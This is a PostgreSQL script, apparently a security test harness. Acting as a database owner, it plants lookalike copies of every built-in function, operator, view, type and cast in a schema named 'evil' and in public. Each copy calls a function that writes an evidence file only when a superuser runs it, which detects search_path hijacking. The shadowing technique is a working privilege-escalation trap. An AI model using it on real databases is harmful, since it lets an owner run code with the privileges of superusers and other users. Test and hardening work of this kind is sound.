-- What the owner of a database can plant for those who log in there: one object for each that PostgreSQL has of its own, in a
-- schema that the database's search_path puts first, and in public. Run as the owner; :'evidence' is a file that only a
-- superuser can have written.

CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;

CREATE FUNCTION evil.strike() RETURNS pg_catalog.bool LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE pg_catalog.format('COPY (SELECT 1) TO %L',
        (SELECT path FROM evil.evidence));
    RETURN true;
EXCEPTION WHEN OTHERS THEN
    RETURN true;
END $$;
CREATE TABLE evil.evidence (path pg_catalog.text);
INSERT INTO evil.evidence VALUES (:'evidence');
GRANT SELECT ON evil.evidence TO PUBLIC;

-- A type that a caller has, for one that takes any.
CREATE FUNCTION evil.concrete(type pg_catalog.oid) RETURNS pg_catalog.text LANGUAGE sql AS $$
    SELECT CASE pg_catalog.format_type(type, NULL)
        WHEN 'anyarray' THEN 'text[]' WHEN 'anycompatiblearray' THEN 'text[]'
        WHEN 'anyelement' THEN 'text' WHEN 'anynonarray' THEN 'text' WHEN '"any"' THEN 'text'
        WHEN 'anycompatible' THEN 'text' WHEN 'anycompatiblenonarray' THEN 'text'
        ELSE pg_catalog.format_type(type, NULL) END
$$;

-- Functions. What plpgsql cannot have, such as an argument of type internal, is left out.
CREATE FUNCTION evil.plant(schema pg_catalog.text, name pg_catalog.text, arguments pg_catalog.text, result pg_catalog.text)
    RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE pg_catalog.format(
        'CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql AS $f$BEGIN PERFORM evil.strike(); RETURN %s; END$f$',
        schema, name, arguments, result, CASE WHEN result LIKE 'SETOF%' THEN '' ELSE 'NULL' END);
EXCEPTION WHEN OTHERS THEN
    NULL;
END $$;

SELECT count(evil.plant(s.schema, p.proname,
        (SELECT pg_catalog.string_agg(evil.concrete(t.type), ', ' ORDER BY t.at)
           FROM pg_catalog.unnest(p.proargtypes) WITH ORDINALITY AS t (type, at)),
        CASE WHEN p.proretset THEN 'SETOF ' ELSE '' END || evil.concrete(p.prorettype)))
  FROM pg_catalog.pg_proc p CROSS JOIN (VALUES ('evil'), ('public')) AS s (schema)
 WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f';

-- Those that take any number of arguments.
SELECT count(evil.plant(s.schema, f.name, pg_catalog.concat('text', pg_catalog.repeat(', text', n)), 'text'))
  FROM (VALUES ('evil'), ('public')) AS s (schema), (VALUES ('concat'), ('concat_ws'), ('format')) AS f (name),
       pg_catalog.generate_series(0, 9) AS n;

-- Operators.
CREATE FUNCTION evil.operator(o pg_catalog.pg_operator, number pg_catalog.int8) RETURNS void LANGUAGE plpgsql AS $$
DECLARE
    left_type text := CASE WHEN o.oprleft = 0 THEN NULL ELSE evil.concrete(o.oprleft) END;
    right_type text := evil.concrete(o.oprright);
BEGIN
    EXECUTE pg_catalog.format(
        'CREATE FUNCTION evil.op_%s(%s) RETURNS %s LANGUAGE plpgsql AS $f$BEGIN PERFORM evil.strike(); RETURN NULL; END$f$',
        number, pg_catalog.concat_ws(', ', left_type, right_type), evil.concrete(o.oprresult));
    EXECUTE pg_catalog.format('CREATE OPERATOR evil.%s (%s RIGHTARG = %s, FUNCTION = evil.op_%s)', o.oprname,
        CASE WHEN left_type IS NULL THEN '' ELSE 'LEFTARG = ' || left_type || ',' END, right_type, number);
EXCEPTION WHEN OTHERS THEN
    NULL;
END $$;

SELECT count(evil.operator(o, o.oid::pg_catalog.int8))
  FROM pg_catalog.pg_operator o WHERE o.oprnamespace = 'pg_catalog'::regnamespace;

-- Relations and types.
CREATE FUNCTION evil.try(statement pg_catalog.text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE statement;
EXCEPTION WHEN OTHERS THEN
    NULL;
END $$;

SELECT count(evil.try(pg_catalog.format('CREATE VIEW evil.%1$I AS SELECT * FROM pg_catalog.%1$I WHERE evil.strike()', relname))),
       count(evil.try(pg_catalog.format('GRANT SELECT ON evil.%I TO PUBLIC', relname)))
  FROM pg_catalog.pg_class WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v');

SELECT count(evil.try(pg_catalog.format('CREATE DOMAIN evil.%1$I AS pg_catalog.%1$I CHECK (evil.strike())', typname)))
  FROM pg_catalog.pg_type WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b' AND typcategory <> 'A';

-- Casts from and to a type of the owner's.
CREATE TYPE evil.odd AS ENUM ('odd');
CREATE FUNCTION evil.to_odd(pg_catalog.text) RETURNS evil.odd LANGUAGE plpgsql AS
    $$BEGIN PERFORM evil.strike(); RETURN 'odd'; END$$;
CREATE FUNCTION evil.from_odd(evil.odd) RETURNS pg_catalog.text LANGUAGE plpgsql AS
    $$BEGIN PERFORM evil.strike(); RETURN 'odd'; END$$;
CREATE CAST (pg_catalog.text AS evil.odd) WITH FUNCTION evil.to_odd(pg_catalog.text) AS IMPLICIT;
CREATE CAST (evil.odd AS pg_catalog.text) WITH FUNCTION evil.from_odd(evil.odd) AS IMPLICIT;

-- For an event trigger, which only a superuser can make: its function is the owner's, who may replace it.
CREATE FUNCTION evil.on_event() RETURNS pg_catalog.event_trigger LANGUAGE plpgsql AS $$BEGIN PERFORM evil.strike(); END$$;
